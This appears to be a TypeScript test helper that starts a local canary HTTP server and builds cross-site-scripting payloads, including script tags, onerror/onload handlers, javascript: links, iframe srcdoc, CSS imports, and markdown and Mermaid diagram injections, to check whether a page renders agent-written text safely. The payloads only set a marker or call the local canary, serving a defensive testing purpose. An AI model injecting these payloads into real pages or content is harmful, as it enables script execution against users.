/** What an agent might write to have the page run something: markup, links, styles, drawings. */
import { createServer } from 'node:http';

export interface Canary extends AsyncDisposable {
	/** Where the texts below try to call. */
	readonly origin: string;
	/** Every path that was asked for. */
	readonly heard: readonly string[];
}

/** A server that nobody has a reason to ask. */
export async function listenForCalls(): Promise<Canary> {
	const heard: string[] = [];
	const server = createServer((request, response) => {
		heard.push(request.url ?? '');
		response.end('parent.pwned = 1');
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const address = server.address();
	if (address === null || typeof address === 'string') throw new Error('No port was given.');
	return {
		origin: `http://127.0.0.1:${address.port}`,
		heard,
		async [Symbol.asyncDispose]() {
			await new Promise((resolve) => server.close(resolve));
		},
	};
}

/** Markup that runs or fetches something wherever it is taken for markup. `field` says whose it was. */
export function hostile(field: string, { origin }: Canary): string {
	const call = `${origin}/${field.replaceAll(/\W/g, '-')}`;
	const run = `top.pwned=(top.pwned||[]).concat('${field}')`;
	return [
		`${field}<script>${run}</script><script src="${call}.js"></script>`,
		`<img src="${call}.png" onerror="${run}"><svg onload="${run}"><a href="javascript:${run}">a</a></svg>`,
		`<iframe srcdoc="<script>${run}</script>"></iframe><style>@import url(${call}.css)</style>`,
		`<details open ontoggle="${run}"><b id=x tabindex=0 onfocus="${run}" autofocus>x</b></details>`,
		`{@html '<img src=x onerror=${run}>'}`,
	].join(' ');
}

/** Markdown that does: links, images, references, raw HTML, and a drawing. */
export function hostileMarkdown(field: string, canary: Canary): string {
	const { origin } = canary;
	const run = 'top.pwned=1';
	return [
		`# ${hostile(`${field} title`, canary)}`,
		`[link](javascript:${run}) ![image](${origin}/image.png) <javascript:${run}> [d](data:text/html,<script>${run}</script>)`,
		`[[<img src=x onerror=${run}>]]<!-- st_0000000000 --> <!-- --><img src=x onerror=${run}> -->`,
		`| a |\n|---|\n| ${hostile(`${field} cell`, canary)} |`,
		`\`\`\`html\n</code></pre>${hostile(`${field} code`, canary)}\n\`\`\``,
		`\`\`\`"><img/src/onerror=${run}>\n\`\`\``,
		...drawings(origin, run).map((source) => `\`\`\`mermaid\n${source}\n\`\`\``),
	].join('\n\n');
}

function drawings(origin: string, run: string): string[] {
	return [
		`%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${origin}/theme.css)", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src='${origin}/node.png' onerror='${run}'>"] --> B\n  click A href "javascript:${run}"\n  style B fill:url(${origin}/fill.svg)`,
		`flowchart LR\n  C@{ img: "${origin}/shape.png", label: "x" }\n  C --> D["\`<script>${run}</script>\`"]`,
		`---\ntitle: "<script>${run}</script>"\nconfig:\n  securityLevel: loose\n---\nsequenceDiagram\n  participant A as <img src=x onerror=${run}>\n  link A: x @ javascript:${run}\n  A->>A: <script>${run}</script>`,
		`classDiagram\n  class A["<img src=x onerror=${run}>"]\n  click A call alert(1)`,
	];
}
